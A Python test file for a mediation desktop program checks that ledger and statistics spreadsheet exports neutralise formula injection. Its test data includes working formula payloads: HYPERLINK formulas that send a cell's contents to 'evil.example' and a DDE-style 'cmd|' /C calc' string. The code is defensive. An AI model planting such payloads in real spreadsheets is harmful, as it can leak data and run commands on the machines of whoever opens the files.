"""Text that leaves is inert (issue 15): every spreadsheet the program writes holds user text as text.

A name, title or summary that starts like a formula (= + - @, a tab or CR, also after blanks) arrives by a
ledger import or a village's bundle; the 台账 (.xlsx and .csv) and the statistics table are read back: no
cell is a formula — in an .xlsx every text is a string cell (formula-like ones also quote-prefixed) holding the
text as typed, in a .csv the text is intact after its ``'``; numbers stay numbers. A control character already
in the database (old data) does not break the Excel export. Export → import gives every text back as typed
(the guard is taken off again, a text that really starts with ``'`` included), round after round.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import text
from sync_helpers import new_installation

from mediation_desktop.domain.text import formula_like, inert_cell, inert_string, read_cell
from mediation_desktop.reports import statistics
from mediation_desktop.reports.ledger import COLUMNS, ledger_csv, ledger_rows
from mediation_desktop.reports.ledger_import import apply_import, plan_import, read_sheet
from mediation_desktop.reports.periods import parse_period
from mediation_desktop.reports.xlsx import ledger_xlsx, statistics_xlsx

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", " =", "  +", "\u3000@", "\n-"]
HOSTILE_NAMES = ["=1+2", "+CMD", "-SUM(A1)", "@A1", "=HYPERLINK(\"http:x\")", "-2"]
HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A2,"点击查看")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
                  "-1+1", " =1+1"]
SUMMARIES = ['=HYPERLINK("http://evil.example","点击")', "@cmd", "正常的纠纷简要情况", "+49 1234"]


def _looks_like_formula(value: str) -> bool:
    return value.lstrip(" \u3000\n").startswith(("=", "+", "-", "@", "\t", "\r"))


def _xlsx_cells(data: bytes) -> list[list[Any]]:
    """The cells of every sheet, after checking that none is a formula: no ``<f>`` in the file, every text a
    string cell, one that starts like a formula also marked quote-prefix (Excel keeps it text when edited)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), name
    wb = load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix or not _looks_like_formula(cell.value), (cell.coordinate, cell.value)
        out.extend([[c.value for c in row] for row in ws.iter_rows()])
    return out


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _check_ledger(rows: list[dict[str, Any]]) -> None:
    """The ledger's .xlsx and .csv of ``rows``: every text as written (in the .csv ``'`` in front of a
    formula-like one; the .xlsx needs none, its cells being typed strings)."""
    sheet = _xlsx_cells(ledger_xlsx(rows))
    table = _csv_cells(ledger_csv(rows))
    assert len(sheet) == len(table) == len(rows) + 1
    seen = 0
    for r, row in enumerate(rows, start=1):
        for c, column in enumerate(COLUMNS):
            value = row.get(column.key)
            if isinstance(value, str) and value:
                want = "'" + value if _looks_like_formula(value) else value
                seen += want != value
                # (an XML reader reads a CR as a line feed: that is the file format, not the export)
                assert sheet[r][c] == value.replace("\r\n", "\n").replace("\r", "\n"), (column.key, sheet[r][c], value)
                assert table[r][c] == want, (column.key, table[r][c], value)
            elif isinstance(value, int) and not isinstance(value, bool):
                assert sheet[r][c] == value and table[r][c] == str(value)  # numbers stay numbers
    assert seen or not rows


def _hostile_ledger(path: Path) -> None:
    lines = ["序号,受理日期,纠纷类型,申请人,被申请人,案件名称,纠纷简要情况,涉及金额,调解员"]
    for i, (name, title, summary) in enumerate(zip(HOSTILE_NAMES, [*HOSTILE_TITLES, "x"], SUMMARIES * 2,
                                                   strict=False), start=1):
        def q(v: str) -> str:
            return '"' + v.replace('"', '""') + '"'
        lines.append(",".join([str(i), f"2025-03-{i:02d}", "邻里纠纷", q(name), q(f"李{i}"), q(title), q(summary),
                               "1200", q("=陈喆")]))
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("gb18030"))


def test_hostile_text_from_a_ledger_import_is_written_as_text(empty_install, director, tmp_path: Path) -> None:
    path = tmp_path / "台账.csv"
    _hostile_ledger(path)
    plan = plan_import(empty_install, read_sheet(path), today=dt.date(2026, 11, 22))
    assert plan.count("error") == 0, [r.messages() for r in plan.rows]
    apply_import(empty_install, director, plan, today=dt.date(2026, 11, 22))
    rows = ledger_rows(empty_install)
    assert len(rows) == len(HOSTILE_NAMES)
    assert {r["applicants"] for r in rows} == set(HOSTILE_NAMES)  # stored as typed: made inert only on the way out
    _check_ledger(rows)
    report = statistics.compute(empty_install, parse_period("2025"))
    _xlsx_cells(statistics_xlsx(report, months=statistics.month_counts(empty_install, parse_period("2025"),
                                                                         statistics.Basis.ACCEPTED)))


def test_hostile_text_from_a_bundle_is_written_as_text(tmp_path: Path) -> None:
    """A village named like a formula, with such parties and titles: the township's ledger and table."""
    village = new_installation(tmp_path / "v", "v", "330102001", "=HYPERLINK(\"http://evil\",\"石桥村\")", "village",
                               "330102")
    town = new_installation(tmp_path / "t", "t", "330102", "城关镇人民调解委员会", "township", "330100")
    try:
        for name, title in zip(HOSTILE_NAMES, HOSTILE_TITLES, strict=False):
            village.register(name, "李四", title=title, summary="@" + title)
        town.trusts(village)
        summary = town.import_(village.export(encrypt=False))
        assert summary.total("new") > 0 and summary.total("rejected") == 0
        rows = ledger_rows(town.db)
        assert {r["title"] for r in rows} == {t.strip() for t in HOSTILE_TITLES}
        _check_ledger(rows)
        report = statistics.compute(town.db, parse_period("2026"))
        cells = _xlsx_cells(statistics_xlsx(report))
        heads = [v for row in cells for v in row if isinstance(v, str) and "HYPERLINK" in v]
        assert heads and all(v.startswith("=HYPERLINK") for v in heads)  # (string cells: see _xlsx_cells)
        assert any(isinstance(v, int | float) and not isinstance(v, bool) and v > 0 for row in cells for v in row)
    finally:
        village.db.dispose()
        town.db.dispose()


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(start=st.sampled_from(FORMULA_STARTS),
       rest=st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=30),
       key=st.sampled_from([c.key for c in COLUMNS if c.kind in ("text", "long")]))
def test_any_formula_like_text_in_any_column_is_inert(start: str, rest: str, key: str) -> None:
    row: dict[str, Any] = {c.key: "普通" if c.kind in ("text", "long") else None for c in COLUMNS}
    row.update(seq=1, accepted_on=dt.date(2026, 3, 2), amount=None, prevented_persons=7)
    row[key] = start + rest
    _check_ledger([row])


@pytest.mark.parametrize("char", ["\x07", "\x00", "\x1b", "\x0b", "\x7f", "\x9b"])
def test_a_control_character_from_old_data_does_not_break_the_export(empty_install, director, tmp_path: Path,
                                                                     char: str) -> None:
    path = tmp_path / "台账.csv"
    path.write_bytes("受理日期,纠纷类型,申请人,案件名称,纠纷简要情况\r\n2025-03-01,邻里,张三,菜地纠纷,争执\r\n"
                     .encode())
    apply_import(empty_install, director, plan_import(empty_install, read_sheet(path), today=dt.date(2026, 11, 22)))
    with empty_install.engine.begin() as conn:  # written before the rule existed
        conn.execute(text("UPDATE party SET name = :v"), {"v": f"张{char}三"})
        conn.execute(text("UPDATE mediation_case SET summary = :v, title = :t"),
                     {"v": f"=争执{char}", "t": f"菜地{char}纠纷"})
    rows = ledger_rows(empty_install)
    sheet = _xlsx_cells(ledger_xlsx(rows))
    table = _csv_cells(ledger_csv(rows))
    header = [c.key for c in COLUMNS]
    for cells, guard in ((sheet[1], ""), (table[1], "'")):
        assert cells[header.index("applicants")] == "张三"
        assert cells[header.index("title")] == "菜地纠纷"
        assert cells[header.index("summary")] == guard + "=争执"


#: texts a ledger may hold that start like a formula or like a guarded cell (a ``'`` really typed in front)
ROUND_TRIP = ["=1+2", "-2+3", "+CMD", "@王建国", "@SUM(A1)", "'abc", "'=x", "''=y", "'", "''", "'@'", "普通的名字"]


@settings(max_examples=150, deadline=None)
@given(start=st.sampled_from(["", "'", "''", "'''", *FORMULA_STARTS, *("'" + s for s in FORMULA_STARTS)]),
       rest=st.text(st.characters(blacklist_categories=("Cc", "Cs")) | st.sampled_from("'=+-@ \t\r\n"), max_size=12))
def test_the_guard_comes_off_exactly_once_for_any_text(start: str, rest: str) -> None:
    """For .csv (``'`` before a formula) and .xlsx (typed string cells, no visible guard): reading a cell back
    gives the text as typed, and a cell never starts like a formula in a .csv."""
    value = start + rest
    as_csv, as_xlsx = inert_cell(value), inert_string(value)
    assert read_cell(as_csv) == value and read_cell(as_xlsx) == value
    assert not formula_like(as_csv)
    assert as_xlsx in (value, "'" + value) and as_csv in (value, "'" + value)  # one ' at most, and only if needed
    if not value.startswith("'"):
        assert as_xlsx == value


def test_export_then_import_gives_every_text_back_as_typed_round_after_round(empty_install, director,
                                                                              tmp_path: Path) -> None:
    for year, kind in ((2024, "xlsx"), (2025, "csv")):
        _round_trip(empty_install, director, tmp_path, year, kind)


def _round_trip(db: Any, director: Any, tmp_path: Path, year: int, kind: str) -> None:
    rows: list[dict[str, Any]] = []
    for i, text_ in enumerate(ROUND_TRIP, start=1):
        row: dict[str, Any] = {c.key: None for c in COLUMNS}
        row.update(seq=i, accepted_on=dt.date(year, 3, i), category="邻里纠纷", applicants=f"{text_}甲",
                   respondents="李四", title=text_ + "纠纷", summary=text_, mediator=text_ + "调", note=text_)
        rows.append(row)

    def write(rows: list[dict[str, Any]], name: str) -> Path:
        path = tmp_path / f"{name}.{kind}"
        path.write_bytes(ledger_xlsx(rows) if kind == "xlsx" else ledger_csv(rows))
        return path

    def cells(path: Path) -> list[list[Any]]:
        return _xlsx_cells(path.read_bytes()) if kind == "xlsx" else _csv_cells(path.read_bytes())

    first = write(rows, "first")
    plan = plan_import(db, read_sheet(first), today=dt.date(2026, 12, 6))
    assert [r.messages() for r in plan.rows if r.status != "new"] == []
    for row, got in zip(rows, plan.rows, strict=True):
        assert got.parsed is not None
        values = got.parsed.stored()
        assert (values["applicants"], got.parsed.title, values["mediator"], values["note"], got.parsed.summary) == (
            [row["applicants"]], row["title"], row["mediator"], row["note"], row["summary"]), kind
    apply_import(db, director, plan, today=dt.date(2026, 12, 6))
    stored = [r for r in ledger_rows(db) if r["accepted_on"].year == year]
    assert sorted(r["applicants"] for r in stored) == sorted(r["applicants"] for r in rows)
    again = write(stored, "again")  # the second round: the same cells, no ' added
    names = [c.key for c in COLUMNS].index("applicants")
    assert sorted(r[names] for r in cells(again)[1:]) == sorted(r[names] for r in cells(first)[1:])
    back = plan_import(db, read_sheet(again), today=dt.date(2026, 12, 6))
    assert sorted(n for r in back.rows if r.parsed for _, n in r.parsed.parties if n != "李四") == sorted(
        r["applicants"] for r in rows)
